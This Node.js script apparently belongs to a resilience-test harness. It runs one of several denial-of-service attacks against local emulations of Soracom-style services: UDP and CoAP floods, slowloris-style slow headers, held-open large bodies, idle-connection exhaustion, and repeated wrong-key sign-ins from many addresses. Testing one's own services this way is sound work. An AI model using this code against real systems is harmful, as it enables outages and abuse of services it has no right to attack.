// One attack, in a process that gives way to all others: what it takes of the processor is no part of what is measured. Says
// "under way" when it is, and ends at SIGTERM. Arguments: its name, and where everything is (attacked.mjs).
import { createSocket } from 'node:dgram';
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { constants, setPriority } from 'node:os';
import { setInterval } from 'node:timers';
import { setTimeout as sleep } from 'node:timers/promises';
import { PATH } from './roles.mjs';

const [name, json] = process.argv.slice(2);
const at = JSON.parse(json);
setPriority(constants.priority.PRIORITY_LOW);
process.once('SIGTERM', () => process.exit(0));
// It does not outlive who started it.
process.once('disconnect', () => process.exit(0));

/** Of HTTP clients, and of sign-ins from as many addresses. */
const CLIENTS = 16;
const ADDRESSES = 64;
/** More than one SIM may have. */
const CONNECTIONS = 1000;
const BODIES = 60;
const BODY = 8 * 1024 * 1024 - 1;
/** Datagrams of one turn, and the milliseconds between turns: 10,000 a second. */
const BURST = 50;
const PAUSE = 5;

const unlessGone = () => undefined;

function ask({ host, port }, from, agent, { method = 'GET', path, headers = {}, body = '' }) {
  return new Promise((resolve) => {
    const sent = request({ host, port, localAddress: from, agent, method, path, headers }, (response) => {
      const chunks = [];
      response.on('data', (chunk) => chunks.push(chunk));
      response.on('end', () => resolve({ status: response.statusCode, text: Buffer.concat(chunks).toString() }));
      response.on('error', () => resolve({ status: 0 }));
    });
    sent.on('error', () => resolve({ status: 0 }));
    sent.end(body);
  });
}

/** Asks without end, as fast as it is answered. */
async function keepAsking(point, from, make) {
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  for (let n = 0; ; n++) if ((await ask(point, from, agent, make(n))).status === 0) await sleep(10);
}

const jsonBody = (value) => ({ headers: { 'content-type': 'application/json' }, body: JSON.stringify(value) });

async function tokens() {
  const { text } = await ask(at.api, '127.0.0.1', undefined, {
    ...{ method: 'POST', path: '/v1/auth' },
    ...jsonBody(at.userKey),
  });
  const { apiKey, token } = JSON.parse(text);
  return { 'x-soracom-api-key': apiKey, 'x-soracom-token': token };
}

function open(point, from, write = unlessGone) {
  const socket = connect({ ...point, localAddress: from });
  socket.on('error', unlessGone).on('connect', () => write(socket));
  socket.resume();
  return socket;
}

/** One after the other, so that they are accepted. */
async function openMany(count, make) {
  for (let i = 0; i < count; i++) {
    make(i);
    if (i % 20 === 19) await sleep(5);
  }
}

function flood({ host, port }, sockets, bytes) {
  const all = Array.from({ length: sockets }, () => createSocket('udp4').on('error', unlessGone));
  for (const socket of all) socket.bind(0, at.attacker);
  let n = 0;
  setInterval(() => {
    for (let i = 0; i < BURST; i++) all[n % sockets].send(bytes(n++), port, host, unlessGone);
  }, PAUSE);
}

/** POST /bs?ep=NAME, confirmable (RFC 7252). */
function bootstrapRequest(n) {
  const ep = Buffer.from(`ep=f${n}`);
  const head = Buffer.from([0x40, 0x02, (n >> 8) & 0xff, n & 0xff]);
  return Buffer.concat([head, Buffer.from([0xb2]), Buffer.from('bs'), Buffer.from([0x40 | ep.length]), ep]);
}

const attacks = {
  'costly access decisions': async () => {
    const headers = await tokens();
    const path = `/v1/files/private/${PATH}`;
    for (let i = 0; i < CLIENTS / 2; i++) {
      void keepAsking(at.files, at.attacker, () => ({ path: `/${PATH}` }));
      void keepAsking(at.api, '127.0.0.1', () => ({ path, headers }));
    }
  },
  'device records and bootstraps': () => flood(at.bootstrap, CLIENTS, bootstrapRequest),
  'large bodies held open': () =>
    openMany(BODIES, () =>
      open(at.beam, at.attacker, (socket) => {
        socket.write(`POST / HTTP/1.1\r\nHost: beam.soracom.io:8888\r\nContent-Length: ${BODY}\r\n\r\n`);
        socket.write(Buffer.alloc(BODY - 1));
      }),
    ),
  'sign-in with wrong keys': () => {
    for (let i = 0; i < ADDRESSES; i++) {
      void keepAsking(at.api, `127.0.77.${i + 1}`, (n) => ({
        ...{ method: 'POST', path: '/v1/auth' },
        ...jsonBody({ authKeyId: `keyId-${n}`, authKey: 'wrong' }),
      }));
    }
  },
  'slow heads': async () => {
    const sockets = [];
    const head = 'GET / HTTP/1.1\r\nHost: beam.soracom.io:8888\r\nX-Slow: '.padEnd(4096, 'x');
    await openMany(CONNECTIONS, () => sockets.push(open(at.beam, at.attacker)));
    let n = 0;
    setInterval(() => sockets.forEach((socket) => socket.writable && socket.write(head[n % 4096])) || n++, 1000);
  },
  'idle connections': () => openMany(CONNECTIONS, () => open(at.beam, at.attacker)),
  datagrams: () => flood(at.harvest, CLIENTS, (n) => Buffer.from(`{"n":${n}}`)),
};

await attacks[name]();
process.stdout.write(`${JSON.stringify({ underWay: true })}\n`);
setInterval(unlessGone, 1000);
